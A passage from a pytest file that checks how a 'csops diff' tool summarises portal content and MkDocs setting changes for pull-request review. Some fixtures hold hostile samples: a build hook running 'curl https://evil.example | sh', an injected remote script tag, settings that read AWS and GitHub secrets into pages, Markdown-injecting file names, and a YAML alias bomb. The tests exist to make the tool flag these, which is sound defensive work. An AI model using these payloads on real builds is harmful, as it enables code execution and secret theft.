    faq.write_text(faq.read_text(encoding="utf-8") + "# reviewed\n", encoding="utf-8")
    out = run("diff", "HEAD", "--project", repo).output
    assert "Changed URLs" not in out and "follow-up" not in out, out


def test_a_removal_recorded_with_urls_update_is_retired_not_broken(tmp_path, run):
    """After `csops urls --update` took a removed page's URLs off the published list (which build then accepts),
    the PR comment still said each one breaks and warned of URLs not covered by aliases."""
    from conftest import REPO, copy_bundled

    repo = copy_bundled(tmp_path / "repo", REPO)
    git(repo, "init", "-q")
    commit_all(repo, "base")
    (repo / "content/faq/onboarding.yml").unlink()  # nothing links to it
    assert run("urls", "--update", "--project", repo).exit_code == 0
    out = run("diff", "HEAD", "--project", repo).output
    rows = [line for line in out.splitlines() if line.startswith("| `faq/onboarding/")]
    data = json.loads(run("diff", "HEAD", "--project", repo, "--format", "json").output)
    retired = len(data["retired_urls"])
    assert retired > 3 and rows == [f"| `faq/onboarding/` and its {retired - 1} anchors | — | ➖ retired: removed from "
                                    "`content/published-urls.txt` in this change |"], rows
    assert "not covered by aliases" not in out and "❌" not in out, out
    assert f"every other old URL still resolves · {retired} URLs retired on purpose**" in out, out
    assert data["uncovered_urls"] == 0


def test_a_manifest_that_is_not_utf8_is_an_error_not_a_traceback(tmp_path, run):
    """published-urls.txt saved as Latin-1 was a UnicodeDecodeError traceback in validate, urls, build and the PR
    comment's diff; it is a not-utf8 error at its line, and the diff counts it and still writes the comment."""
    project = make_repo(tmp_path / "repo")
    (project / "content/published-urls.txt").write_bytes(b"# urls\nplaybooks/caf\xe9/\n")
    expected = ("content/published-urls.txt:2:14: error: file is not UTF-8 (byte 0xe9) (re-save the file with UTF-8 "
                "encoding) [not-utf8]\n1 error in 1 file\n")
    validate = run("validate", "--project", project)
    assert (validate.exit_code, validate.output) == (1, expected)
    check = run("urls", "--check", "--project", project)
    assert (check.exit_code, check.output) == (1, "Error: " + expected)
    diff = run("diff", "main", "--project", project)
    assert diff.exit_code == 0 and "> ⚠️ `working tree` has 1 validation error;" in diff.output, diff.output


def test_reordered_steps_and_an_item_moved_to_another_section_are_changes(tmp_path, run):
    """Swapping two steps (their numbers on the page) or moving a checklist item into another section said
    'No content changes': items are paired by id and the order and the section were not compared."""
    project = committed_project(tmp_path / "repo", {
        "content/playbooks/renewal.yml": """\
            title: Renewal
            steps:
              - {id: kickoff, title: Kick off}
              - {id: confirm, title: Confirm}
              - {id: close, title: Close}
            """,
        "content/onboarding/ramp.yml": """\
            title: Ramp
            sections:
              - id: first
                title: First
                items: [{id: access, text: Get access}, {id: meet, text: Meet the team}]
              - id: second
                title: Second
                items: [{id: ship, text: Ship}]
            """})
    playbook, ramp = project / "content/playbooks/renewal.yml", project / "content/onboarding/ramp.yml"
    steps = playbook.read_text().splitlines()
    steps[2], steps[4] = steps[4], steps[2]  # close first, kickoff last
    playbook.write_text("\n".join(steps) + "\n")
    ramp.write_text(ramp.read_text().replace(", {id: meet, text: Meet the team}]", "]")
                    .replace("[{id: ship", "[{id: meet, text: Meet the team}, {id: ship"))
    out = run("diff", "main", "--project", project).output
    assert "· 2 changed —" in out and "No content changes" not in out, out
    assert out.endswith("### Edited\n\n"
                        "- `renewal` (playbook): steps in a new order: `close`, `confirm`, `kickoff`\n"
                        "- `ramp` (onboarding): item `meet` moved from section `first` to `second`\n"), out
    payload = json.loads(run("diff", "main", "--project", project, "--format", "json").output)
    assert payload["kinds"]["playbook"]["changed"][0]["items"]["order"] == ["close", "confirm", "kickoff"]
    assert payload["kinds"]["onboarding"]["changed"][0]["items"]["moved"] == [
        {"id": "meet", "from_section": "first", "to_section": "second"}]


def test_a_huge_change_is_cut_to_a_comment_github_accepts(tmp_path, run):
    """A pull request adding 400 playbooks made a 70,000-character comment; GitHub refuses a body over 65,536
    characters, so `gh pr comment` failed and reviewers got no summary at all."""
    project = committed_project(tmp_path / "repo", {})
    make_project(project, {f"content/playbooks/p{n}.yml": f"title: {'Playbook number %d ' % n * 8}\n"
                           "steps: [{id: s, title: S}]\n" for n in range(400)}, with_defaults=False)
    out = run("diff", "main", "--project", project).output
    assert len(out.encode("utf-16-le")) // 2 < 65_536, len(out)  # GitHub counts UTF-16 units
    assert "**Pages: 400 added ·" in out and "| ➕ added | `p0` |" in out
    assert re.search(r"\n\n> ⚠️ \d+ more lines are not shown: a GitHub comment holds at most 65,536 characters\. "
                     r"`csops diff --format json` lists every change\.\n\Z", out), repr(out[-300:])
    assert len(json.loads(run("diff", "main", "--project", project, "--format", "json").output)["kinds"]["playbook"]["added"]) == 400


def test_diff_shows_changes_to_site_settings_and_templates(tmp_path, run):
    """A pull request that only moved site_url, reworded a label and edited a template was summarised as
    'No content changes … all old URLs still resolve': every page changed, and every link copied into a ticket moved."""
    project = make_repo(tmp_path / "repo")
    make_project(project, {"templates/labels.yml": "en:\n  trigger: Trigger\n  goal: Goal\n",
                           "templates/playbook.md.j2": "# {{ doc.title }}\n"}, with_defaults=False)
    commit_all(project, "own templates")
    config = project / "mkdocs.yml"
    config.write_text(config.read_text().replace("https://portal.acme.test/", "https://cs.acme.test/`x`/")
                      .replace("docs_dir:", "# csops decides it\ndocs_dir:"))
    (project / "templates/labels.yml").write_text("en:\n  trigger: When to start\n  goal: Goal\n")
    (project / "templates/playbook.md.j2").write_text("# {{ doc.title }}\n\n{{ doc.summary }}\n")
    (project / "templates/.playbook.md.j2.swp").write_bytes(b"\0swap")  # an editor's, not the pull request's
    (project / "templates/link.md").symlink_to("labels.yml")  # git archive leaves links out of the other side
    result = run("diff", "HEAD", "--project", project)
    assert result.exit_code == 0, result.output
    assert result.output == textwrap.dedent("""\
        ## Portal content changes: `HEAD` → `working tree`

        **Pages: 0 added · 0 renamed · 0 removed · 0 changed — Items: 0 added · 0 renamed · 0 removed — 0 owner/RACI changes — 3 site setting/template changes (⚠️ site_url) — all old URLs still resolve**

        ### Site settings and templates (every page)

        - ⚠️ `mkdocs.yml` `site_url`: `https://portal.acme.test/` → ``https://cs.acme.test/`x`/``: links already copied into tickets keep the old address (keep it redirecting to the new one)
        - ✏️ `templates/labels.yml` `en.trigger`: `Trigger` → `When to start`
        - ✏️ `templates/playbook.md.j2`: changed: the pages made with it change
        """)
    site = json.loads(run("diff", "HEAD", "--project", project, "--format", "json").output)["site"]
    assert [(c["file"], c["setting"], c["warning"]) for c in site] == [
        ("mkdocs.yml", "site_url", True), ("templates/labels.yml", "en.trigger", False), ("templates/playbook.md.j2", "", False)]
    (project / "templates/.playbook.md.j2.swp").unlink()
    (project / "templates/link.md").unlink()
    commit_all(project, "new address, words and page")
    config.write_text(config.read_text().replace("# csops decides it\n", ""))  # a comment only
    assert run("diff", "HEAD", "--project", project).output.endswith(
        "### Site settings and templates (every page)\n\n- ✏️ `mkdocs.yml`: changed in layout or comments only\n")


@pytest.mark.parametrize("edit, said", [
    (lambda text: text + "hooks:\n  - hooks/x.py\n",
     "- ⚠️ `mkdocs.yml` `hooks`: added; runs these Python files in every build: review them as code"),
    # (mutation pass: only hooks was tried; a plugin added or INHERIT set went unflagged with their entries gone)
    (lambda text: text.replace("plugins:\n  - search\n", "plugins:\n  - search\n  - macros\n"),
     "- ⚠️ `mkdocs.yml` `plugins`: changed; MkDocs plugins run Python in every build"),
    (lambda text: "INHERIT: base.yml\n" + text,
     "- ⚠️ `mkdocs.yml` `INHERIT`: — → `base.yml`: added; takes settings from another file (its changes are listed by its name)"),
    # a theme folder whose main.html replaces every page's, scripts included, was one ✏️ line among the settings
    (lambda text: text.replace("  name: material\n", "  name: material\n  custom_dir: overrides\n"),
     "- ⚠️ `mkdocs.yml` `theme.custom_dir`: — → `overrides`: added; its templates can replace any part of every page, "
     "scripts included: review the folder's files as code"),
])
def test_diff_flags_settings_that_run_code_in_the_build(tmp_path, run, edit, said):
    """A pull request adding `hooks: [hooks/x.py]` to mkdocs.yml, which runs the file in every build (CI's too), was
    one ✏️ line among the settings, with nothing to make its reviewer read it as code."""
    project = make_repo(tmp_path / "repo")
    config = project / "mkdocs.yml"
    config.write_text(edit(config.read_text()))
    output = run("diff", "HEAD", "--project", project).output
    setting = said.split("`")[3]
    assert f"1 site setting/template change (⚠️ {setting})" in output, output
    assert said in output, output


def test_diff_flags_a_theme_folder_given_to_a_theme_named_alone():
    """`theme: material` is the theme's name alone: given a custom_dir, it was one ✏️ 'theme: changed'."""
    from generator.site_diff import site_changes

    changes = site_changes({"mkdocs.yml": b"theme: material\n"}, {"mkdocs.yml": b"theme: {name: material, custom_dir: x}\n"})
    assert [(c.setting, c.after, c.warning) for c in changes] == [("theme.custom_dir", "x", True)]
    # a mkdocs.yml that had no theme: section given one with a folder is the same ⚠️ line (it was one ✏️ 'theme: added')
    changes = site_changes({"mkdocs.yml": b"site_name: x\n"}, {"mkdocs.yml": b"site_name: x\ntheme: {name: material, custom_dir: x}\n"})
    assert [(c.setting, c.after, c.warning) for c in changes if c.warning] == [("theme.custom_dir", "x", True)]


def test_diff_lists_the_settings_of_a_file_mkdocs_yml_starts_to_inherit():
    """A pull request adding `INHERIT: base.yml` and base.yml with hooks and another site_url: base.yml's settings are
    listed as mkdocs.yml's are, each ⚠️ where it runs code or moves links, not one line 'base.yml: added'."""
    from generator.site_diff import site_changes

    changes = site_changes({"mkdocs.yml": b"site_name: x\n"}, {
        "mkdocs.yml": b"site_name: x\nINHERIT: base.yml\n", "base.yml": b"site_url: https://evil.test/\nhooks: [h.py]\n",
        "h.py": b"import os\n"})
    assert [(c.file, c.setting, c.warning) for c in changes] == [
        ("mkdocs.yml", "INHERIT", True), ("base.yml", "site_url", True), ("base.yml", "hooks", True), ("h.py", "", True)]
    # a parent a file in a folder names is found from that folder, as MkDocs finds it
    chain = {"mkdocs.yml": b"INHERIT: conf/base.yml\n", "conf/base.yml": b"INHERIT: common.yml\n"}
    changes = site_changes({**chain, "conf/common.yml": b"site_url: https://a.test/\n"},
                           {**chain, "conf/common.yml": b"site_url: https://evil.test/\n"})
    assert [(c.file, c.setting, c.warning) for c in changes] == [("conf/common.yml", "site_url", True)]


def test_diff_flags_the_files_mkdocs_yml_names_as_code_and_compares_the_settings_it_inherits(tmp_path, run):
    """Once mkdocs.yml named them, a pull request editing its hooks file (to run `curl … | sh` in CI's build), a
    custom_dir's main.html (a script in every page) and the file it INHERITs (a new site_url) was summarised as
    'No content changes': the summary read mkdocs.yml and templates/ alone (red team)."""
    base = MINIMAL_MKDOCS.format(language="en").replace("  name: material\n", "  name: material\n  custom_dir: overrides\n")
    project = committed_project(tmp_path / "repo", {
        "mkdocs.yml": "INHERIT: conf/base.yml\n", "conf/base.yml": base + "hooks: [hooks/build.py]\n",
        "overrides/main.html": "{% extends 'base.html' %}\n", "hooks/build.py": "def on_config(config):\n    return config\n"})
    (project / "hooks/build.py").write_text("import os\nos.system('curl https://evil.example | sh')\n")
    (project / "overrides/main.html").write_text("{% extends 'base.html' %}<script src=https://evil.example/x.js>\n")
    (project / "conf/base.yml").write_text((project / "conf/base.yml").read_text().replace("portal.acme", "evil"))
    said = ["- ⚠️ `conf/base.yml` `site_url`: `https://portal.acme.test/` → `https://evil.test/`: links already copied "
            "into tickets keep the old address (keep it redirecting to the new one)",
            *(f"- ⚠️ `{name}`: changed; a build runs it (mkdocs.yml names it as hooks or in the theme's custom\\_dir): "
              "review it as code" for name in ("hooks/build.py", "overrides/main.html"))]
    working_tree = run("diff", "HEAD", "--project", project).output
    assert "3 site setting/template changes (⚠️ site_url, hooks/build.py, overrides/main.html)" in working_tree, working_tree
    assert working_tree.endswith("\n".join(said) + "\n"), working_tree
    commit_all(project, "pr")
    assert run("diff", "HEAD~1", "HEAD", "--project", project).output.endswith("\n".join(said) + "\n")


@pytest.mark.parametrize("added, setting", [
    ("site_description: !ENV AWS_SECRET_ACCESS_KEY\n", "site_description"),
    # a setting the portal had, now read from the environment (mutation pass: only new settings were tried)
    ("site_name: !ENV [AWS_SECRET_ACCESS_KEY, Portal]\n", "site_name"),
    ("extra:\n  analytics:\n    key: !ENV [GITHUB_TOKEN, none]\n", "extra"),
])
def test_diff_flags_a_setting_read_from_the_build_machines_environment(tmp_path, run, added, setting):
    """A pull request setting 'site_description: !ENV AWS_SECRET_ACCESS_KEY' had CI's build publish the secret in
    every page's <meta>, and csops diff showed one ✏️ line among the settings."""
    project = make_repo(tmp_path / "repo")
    config = project / "mkdocs.yml"
    text = "\n".join(line for line in config.read_text().splitlines() if not line.startswith(setting + ":"))
    config.write_text(text + "\n" + added)
    output = run("diff", "HEAD", "--project", project).output
    assert f"(⚠️ {setting})" in output, output
    assert f"⚠️ `mkdocs.yml` `{setting}`" in output and "reads an environment variable" in output, output


def test_diff_does_not_call_references_csops_mv_rewrote_edits(tmp_path, run):
    """After `csops mv`, every page linking to the renamed playbook or step was listed under Edited ('entry `when`:
    a', 'related') and counted as changed, though its links lead where they did: a reviewer could not tell the
    one real edit from the rewrites."""
    project = committed_project(tmp_path / "repo", {
        **BASE_FILES,
        "content/faq/renewals.yml": """\
            title: Renewals
            entries:
              - {id: when, q: When do renewals start?, a: "See [confirm](playbook:renewal#confirm)."}
              - {id: who, q: Who owns renewals?, a: The CSM.}
            """,
        "content/playbooks/qbr.yml": """\
            title: QBR
            related: [renewal]
            steps:
              - {id: prep, title: Prepare, body: "Then [renew](playbook:renewal)."}
            """})
    for args in (("playbook", "renewal", "renewal-runway"), ("step", "renewal-runway", "confirm", "confirm-stakeholders")):
        assert run("mv", *args, "--project", project).exit_code == 0
    faq = project / "content/faq/renewals.yml"
    faq.write_text(faq.read_text().replace("The CSM.", "The CSM and the AE."))
    result = run("diff", "main", "--project", project)
    assert result.exit_code == 0, result.output
    assert "1 renamed · 0 removed · 2 changed — Items: 0 added · 1 renamed" in result.output, result.output
    assert result.output.endswith("### Edited\n\n- `renewals` (faq): entry `who`: a “The CSM.” → “The CSM and the AE.”\n"), result.output


def test_diff_calls_a_checklist_section_a_section(tmp_path, run):
    """A renamed or retitled onboarding section was listed as an item ('items: 🔀 `days-61-90` → `last-30`',
    'item `days-61-90`: title …'): the reviewer looked for a checklist item of that id and found none."""
    project = committed_project(tmp_path / "repo", {"content/onboarding/new-csm.yml": """\
        title: New CSM
        sections:
          - id: days-61-90
            title: Days 61-90
            items:
              - {id: mock-qbr, text: Pass the mock QBR}
        """})
    for args in (("section", "new-csm", "days-61-90", "last-30"), ("item", "new-csm", "mock-qbr", "mock-qbr-cert")):
        assert run("mv", *args, "--project", project).exit_code == 0
    checklist = project / "content/onboarding/new-csm.yml"
    checklist.write_text(checklist.read_text().replace("title: Days 61-90", "title: The last 30 days"))
    result = run("diff", "main", "--project", project)
    assert result.exit_code == 0, result.output
    assert ("**Sections and items**\n\n- `new-csm` sections and items: 🔀 section `days-61-90` → `last-30`; "
            "🔀 item `mock-qbr` → `mock-qbr-cert`\n") in result.output, result.output
    assert result.output.endswith(
        "- `new-csm` (onboarding): section `last-30`: title “Days 61-90” → “The last 30 days”\n"), result.output


def test_diff_gives_a_removed_page_one_row_with_its_anchors(tmp_path, run):
    """Deleting a FAQ topic gave one ❌ row per entry, each with the same fix, under the page's own row."""
    project = make_repo(tmp_path / "repo")
    faq = project / "content/faq/renewals.yml"
    faq.write_text(faq.read_text().replace("entries:\n", "entries:\n  - {id: who, q: Who?, a: The CSM.}\n"))
    commit_all(project, "one more entry")
    faq.unlink()
    result = run("diff", "HEAD", "--project", project)
    assert result.exit_code == 0, result.output
    assert "⚠️ 3 old URLs not covered by aliases" in result.output
    assert result.output.endswith(
        "| Old URL | Now | Status |\n| --- | --- | --- |\n"
        "| `faq/renewals/` and its 2 anchors | — | ❌ breaks: add `aliases: [renewals]` to the renamed page, "
        "or `csops urls --update` if intended |\n"), result.output


def test_diff_shows_where_a_short_value_moved(tmp_path, run):
    """A step moved to another phase, due date and segments was summarised as 'phase; step `x`: due, segments':
    the reviewer had to open the YAML to see where it went."""
    project = committed_project(tmp_path / "repo", {
        "content/settings.yml": "segments: [{id: smb, name: SMB}, {id: enterprise, name: Enterprise}]\n",
        "content/playbooks/qbr.yml": """\
            title: QBR
            phase: renewal
            reviewed: 2026-09-30
            steps:
              - {id: prep, title: Prepare, due: T-30d, segments: [smb, enterprise], body: Pull the data pack.}
            """})
    playbook = project / "content/playbooks/qbr.yml"
    playbook.write_text(playbook.read_text().replace("renewal", "adoption").replace("T-30d", "T-45d")
                        .replace("[smb, enterprise]", "[enterprise]").replace("the data pack", "the pack")
                        .replace("2026-09-30", "2026-12-01"))
    result = run("diff", "main", "--project", project)
    assert result.output.endswith("### Edited\n\n- `qbr` (playbook): reviewed 2026-09-30 → 2026-12-01, phase renewal → adoption; step `prep`: body “Pull the data pack.” "
                                  "→ “Pull the pack.”, due T-30d → T-45d, segments [smb, enterprise] → [enterprise]\n"), result.output


def test_diff_does_not_warn_when_site_url_leaves_the_example_address(tmp_path, run):
    """Setting the portal's real address in place of `csops init`'s example one was flagged ⚠️ as moving links
    already in tickets, though no ticket could hold a link to example.com."""
    project = make_repo(tmp_path / "repo")
    config = project / "mkdocs.yml"
    config.write_text(config.read_text().replace("https://portal.acme.test/", "https://cs-portal.example.com/"))
    commit_all(project, "as csops init writes it")
    config.write_text(config.read_text().replace("https://cs-portal.example.com/", "https://cs.acme.test/"))
    output = run("diff", "HEAD", "--project", project).output
    assert "⚠️" not in output and "1 site setting/template change — " in output, output
    assert output.endswith("- ✏️ `mkdocs.yml` `site_url`: `https://cs-portal.example.com/` → `https://cs.acme.test/`: "
                           "the portal's own address replaces the example one\n"), output


def test_diff_counts_errors_as_validate_does(tmp_path, run):
    """A step renamed by hand (no alias) left one published URL vanishing and one link unknown: validate listed
    2 errors, the PR comment said '`working tree` has 1 validation error'."""
    project = make_repo(tmp_path / "repo")
    make_project(project, {"content/faq/renewals.yml": """\
        title: Renewals
        owner: cs-ops
        entries:
          - {id: when, q: When do renewals start?, a: "See [kick off](playbook:renewal-runway#kickoff)."}
        """}, with_defaults=False)
    assert run("urls", "--update", "--project", project).exit_code == 0
    commit_all(project, "link and record")
    playbook = project / "content/playbooks/renewal-runway.yml"
    playbook.write_text(playbook.read_text().replace("id: kickoff", "id: start"))
    validate = run("validate", "--project", project)
    assert validate.output.endswith("2 errors in 2 files\n"), validate.output
    output = run("diff", "HEAD", "--project", project).output
    assert "> ⚠️ `working tree` has 2 validation errors; run `csops validate`." in output, output


def test_diff_shows_a_glossary_term_renamed_with_its_alias_as_renamed(tmp_path, run):
    """A term whose id changed with the old one kept in `aliases` showed as '➕ … `net-revenue-retention`' and
    '➖ … `nrr`': the reviewer read it as a term deleted, though glossary/#nrr still lands on it."""
    project = make_repo(tmp_path / "repo")
    glossary = project / "content/glossary.yml"
    glossary.write_text("terms:\n  - {id: nrr, term: NRR, definition: Net revenue retention.}\n")
    commit_all(project, "glossary")
    glossary.write_text("terms:\n  - {id: net-revenue-retention, aliases: [nrr], term: NRR, definition: Net revenue retention.}\n")
    output = run("diff", "HEAD", "--project", project).output
    assert "- 🔀 glossary term `nrr` → `net-revenue-retention` NRR\n" in output, output
    assert "➕" not in output and "➖" not in output, output
    catalogs = json.loads(run("diff", "HEAD", "--project", project, "--format", "json").output)["catalogs"]
    assert catalogs == [{"noun": "glossary term", "action": "renamed", "id": "net-revenue-retention", "name": "NRR",
                         "fields": [], "from": "nrr"}]


def test_diff_shows_a_role_renamed_with_its_alias_as_one_rename_not_every_raci_changed(tmp_path, run):
    """Roles had no aliases, so a renamed role could only be one role removed and one added; with its old id kept,
    the comment says renamed, and the owners and RACI letters that now spell the new id are no change (the bundled
    portal's cs-lead gave 135 owner/RACI rows and 21 changed pages), nor are the versions of the steps they are on."""
    from conftest import copy_bundled
    from generator.versions import item_version
    from generator.pipeline import load_portal

    project = copy_bundled(tmp_path / "repo")
    git(project, "init", "-q", "-b", "main")
    commit_all(project, "bundled")
    before = load_portal(project)
    for file in (project / "content").rglob("*.yml"):
        file.write_text(re.sub(r"\bcs-lead\b", "team-lead", file.read_text(encoding="utf-8")), encoding="utf-8")
    roles = project / "content/roles.yml"
    roles.write_text(roles.read_text().replace("  - id: team-lead\n", "  - id: team-lead\n    aliases: [cs-lead]\n"))
    output = run("diff", "main", "--project", project).output
    assert output.startswith("## Portal content changes: `main` → `working tree`\n\n**Pages: 0 added · 0 renamed · "
                             "0 removed · 0 changed — Items: 0 added · 0 renamed · 0 removed — 0 owner/RACI changes — "
                             "1 glossary/role/setting change — all old URLs still resolve**\n"), output
    assert "- 🔀 role `cs-lead` → `team-lead` Customer Success Lead\n" in output, output
    assert "| `roles/cs-lead/` | `roles/team-lead/` | ✅ redirect / alias anchor |" in output, output
    after = load_portal(project)
    assert [item_version(s, before) for p in before.playbooks for s in p.steps] == \
        [item_version(s, after) for p in after.playbooks for s in p.steps]


def test_diff_shows_odd_template_names_and_setting_keys_as_code_not_markdown(tmp_path, run):
    """A template named with a backtick, or with blank lines, and a labels.yml key holding them ended their code
    spans in the PR comment: the rest was Markdown, a link, a heading and an @mention that pinged a team. A value
    ending in a backtick is padded as one starting with it is: unpadded, ``[go](…) ``` closes no span, and its
    link is a link in the comment."""
    project = make_repo(tmp_path / "repo")
    make_project(project, {"templates/labels.yml": "en:\n  trigger: Trigger\n"}, with_defaults=False)
    commit_all(project, "own words")
    (project / "templates/x` [pwn](evil.example) @acme `.md.j2").write_text("x")
    (project / "templates/a\n\n# Approved by @acme.md.j2").write_text("x")
    (project / "templates/labels.yml").write_text('en:\n  trigger: "[go](https://evil.example) `"\n'
                                                  '  "k\\n\\n[click](https://evil.example)": v\n')
    result = run("diff", "HEAD", "--project", project)
    assert result.exit_code == 0, result.output
    assert result.output.endswith(textwrap.dedent("""\
        ### Site settings and templates (every page)

        - ✏️ `templates/labels.yml` `en.trigger`: `Trigger` → `` [go](https://evil.example) ` ``
        - ✏️ `templates/labels.yml` `en.k\\u000a\\u000a[click](https://evil.example)`: — → `v`: added
        - ✏️ `templates/a\\u000a\\u000a# Approved by @acme.md.j2`: added
        - ✏️ ``templates/x` [pwn](evil.example) @acme `.md.j2``: added
        """)), result.output


def test_diff_summarises_an_aliased_mkdocs_yml_at_once(tmp_path, run):
    """Two-item lists of aliases forty deep (80 aliases, under the 100 allowed) in mkdocs.yml kept `csops diff`
    comparing both sides' values for ever (ten to a list nine deep took 12 s), and a value holding itself
    (`&a [1, *a]`) ended it in a RecursionError traceback. The values as expanded are now counted first."""
    import sys

    project = make_repo(tmp_path / "repo")
    config = project / "mkdocs.yml"
    bomb = "extra:\n  a0: &a0 [x, x]\n" + "".join(f"  a{n}: &a{n} [*a{n - 1}, *a{n - 1}]\n" for n in range(1, 41))
    config.write_text(config.read_text() + bomb)
    commit_all(project, "aliases")
    config.write_text(config.read_text().replace("site_name:", "site_name: New\nold_name:"))
    result = subprocess.run([sys.executable, "-m", "generator.cli", "diff", "HEAD", "--project", str(project)],
                            capture_output=True, text=True, timeout=60, cwd=Path(__file__).parent.parent)
    assert result.returncode == 0, result.stderr
    assert result.stdout.endswith("- ✏️ `mkdocs.yml`: changed; it repeats values through YAML aliases too often to "
                                  "compare\n"), result.stdout
    config.write_text(config.read_text().replace(bomb, "extra:\n  a: &a [1, *a]\n"))
    commit_all(project, "a value inside itself")
    config.write_text(config.read_text().replace("site_name: New", "site_name: Newer"))
    result = run("diff", "HEAD", "--project", project)
    assert result.exit_code == 0 and result.output.endswith("too often to compare\n"), result.output


def test_a_step_moved_to_another_playbook_is_named_as_moved(tmp_path, run):
    """Moving step 'pull-data' from qbr to success-plan was '➖ pull-data' on one page and '➕ pull-data' on the
    other, and its old URL's row said to add `aliases: [pull-data]` to 'the renamed item', which would land every
    ticket's link on the wrong qbr step."""
    project = committed_project(tmp_path / "repo", {
        "content/playbooks/qbr.yml": "title: QBR\nsteps:\n  - {id: schedule, title: Schedule}\n"
                                     "  - {id: pull-data, title: Pull the data pack}\n",
        "content/playbooks/success-plan.yml": "title: Success plan\nsteps:\n  - {id: draft, title: Draft}\n"})
    qbr, plan = project / "content/playbooks/qbr.yml", project / "content/playbooks/success-plan.yml"
    qbr.write_text(qbr.read_text().replace("  - {id: pull-data, title: Pull the data pack}\n", ""))
    plan.write_text(plan.read_text() + "  - {id: pull-data, title: Pull the data pack}\n")
    out = run("diff", "main", "--project", project).output
    assert ("Items: 0 added · 0 renamed · 0 removed · 1 moved to another page — 0 owner/RACI changes — "
            "⚠️ 1 old URL not covered by aliases**") in out, out
    assert "- `success-plan` steps: 🚚 `pull-data` Pull the data pack moved from `qbr` to `success-plan`\n" in out
    assert "➖" not in out and "➕" not in out and "aliases: [pull-data]" not in out, out
    assert ("| `playbooks/qbr/#pull-data` | — | ❌ breaks: the step moved to another page, "
            "`playbooks/success-plan/#pull-data`, and a link cannot follow it there: keep a short step `pull-data` "
            "in `qbr` that links to its new place, or `csops urls --update` if intended |") in out, out
    payload = json.loads(run("diff", "main", "--project", project, "--format", "json").output)
    items = {page["id"]: page["items"] for page in payload["kinds"]["playbook"]["changed"]}
    assert items["qbr"]["removed"] == [] and items["qbr"]["moved_out"] == [{"id": "pull-data", "to": "success-plan"}]
    assert items["success-plan"]["added"] == [] and items["success-plan"]["moved_in"] == [{"id": "pull-data", "from": "qbr"}]


def test_a_section_removed_from_one_checklist_and_an_item_of_its_id_added_to_another_are_no_move(tmp_path, run):
    """Only an item of the same kind under the same id moved between pages: a removed section 'week-2' and a new
    checklist item 'week-2' elsewhere are one removal and one addition, and the section's old URL is no link that
    'cannot follow it there' but a removed anchor."""
    project = committed_project(tmp_path / "repo", {
        "content/onboarding/csm.yml": "title: CSM\nsections:\n  - {id: week-1, title: Week 1, items: [{id: a, text: A}]}\n"
                                      "  - {id: week-2, title: Week 2, items: [{id: b, text: B}]}\n",
        "content/onboarding/ae.yml": "title: AE\nsections:\n  - {id: start, title: Start, items: [{id: c, text: C}]}\n"})
    csm, ae = project / "content/onboarding/csm.yml", project / "content/onboarding/ae.yml"
    csm.write_text(csm.read_text().replace("  - {id: week-2, title: Week 2, items: [{id: b, text: B}]}\n", ""))
    ae.write_text(ae.read_text().replace("[{id: c, text: C}]", "[{id: c, text: C}, {id: week-2, text: Second week}]"))
    out = run("diff", "main", "--project", project).output
    assert "🚚" not in out and "moved from" not in out and "moved to another page" not in out, out
    assert "- `csm` sections and items: ➖ section `week-2` Week 2; ➖ item `b` B\n" in out, out
    payload = json.loads(run("diff", "main", "--project", project, "--format", "json").output)
    items = {page["id"]: page["items"] for page in payload["kinds"]["onboarding"]["changed"]}
    assert items["csm"]["removed"] == ["week-2", "b"] and items["csm"]["moved_out"] == []
    assert items["ae"]["added"] == ["week-2"] and items["ae"]["moved_in"] == []


def test_diff_says_who_holds_each_item_a_pull_request_adds(tmp_path, run):
    """A duty added to the role chart was listed by its name alone, with '0 owner/RACI changes': the reviewer of a
    RACI change could not see who is responsible for the new duty. An item moved in from another page keeps its
    holders and is no new assignment."""
    from conftest import copy_bundled

    project = copy_bundled(tmp_path / "repo")
    git(project, "init", "-q", "-b", "main")
    commit_all(project, "bundled")
    chart = project / "content/charts/cs-duties.yml"
    chart.write_text(chart.read_text(encoding="utf-8").replace("activities:\n", (
        "activities:\n  - id: voc-digest\n    name: Monthly product feedback digest\n"
        "    raci: {R: cs-ops, A: cs-lead, C: [csm, support], I: product}\n"), 1), encoding="utf-8")
    output = run("diff", "main", "--project", project).output
    assert "Items: 1 added · 0 renamed · 0 removed — 1 owner/RACI change —" in output, output
    assert "| `cs-duties` › `voc-digest` (new) | R cs-ops · A cs-lead · C csm, support · I product |" in output, output
    ownership = json.loads(run("diff", "main", "--project", project, "--format", "json").output)
    assert ownership["kinds"]["chart"]["changed"][0]["ownership"] == [
        {"where": "cs-duties › voc-digest (new)", "change": "R cs-ops · A cs-lead · C csm, support · I product"}]
    # a step added with an owner and no RACI: its owner is who holds it (mutation pass: only RACI was tried)
    qbr = project / "content/playbooks/qbr.yml"
    qbr.write_text(qbr.read_text(encoding="utf-8").replace("steps:\n", (
        "steps:\n  - id: book-room\n    title: Book the room\n    owner: cs-ops\n"), 1), encoding="utf-8")
    output = run("diff", "main", "--project", project).output
    assert "| `qbr` › `book-room` (new) | owner cs-ops |" in output, output


def test_diff_json_writes_a_settings_u202e_or_csi_as_its_escape(tmp_path, run):
    """A pull request's mkdocs.yml value holding U+202E or U+009B (CSI) is shown in `csops diff --format json`, which
    CI prints to its log: JSON writes each as its \\u escape, which a JSON reader turns back into the value
    (mutation pass: only the Markdown summary was checked for them)."""
    project = make_repo(tmp_path / "repo")
    config = project / "mkdocs.yml"
    config.write_text(config.read_text().replace("site_name: Test portal", 'site_name: "Test\\u202e \\x9b31m portal"'))
    output = run("diff", "HEAD", "--project", project, "--format", "json").output
    assert not re.search("[\u202e\x9b]", output), output
    assert {"after": "Test\u202e \x9b31m portal"}.items() <= json.loads(output)["site"][0].items(), output


def test_diff_names_the_ticket_links_that_will_say_their_item_changed(tmp_path, run):
    """A link copied from a step, FAQ answer or chart duty carries its version, and opens with 'This answer changed
    on …' once the item's meaning changed; the PR comment did not say which links already in tickets would, so a
    reviewer could not tell a reworded answer (they will) from a retag, a rename or a role rename (they will not)."""
    project = committed_project(tmp_path / "repo", {
        "content/faq/renewals.yml": """\
            title: Renewals
            entries:
              - {id: when, q: When do renewals start?, a: At T-120d., tags: [timing]}
              - {id: who, q: Who renews?, a: The CSM., tags: [ownership]}
              - {id: uplift, q: Is there an uplift?, a: Five percent.}
            """,
        "content/charts/duties.yml": """\
            title: Duties
            activities:
              - {id: discount, name: Approve a discount, raci: {R: csm, A: cs-lead}}
              - {id: booking, name: Book the renewal, raci: {R: cs-ops, A: cs-lead}}
            """})
    git(project, "switch", "-q", "-c", "pr")
    for words in (["entry", "renewals", "uplift", "price-uplift"], ["activity", "duties", "booking", "book-renewal"],
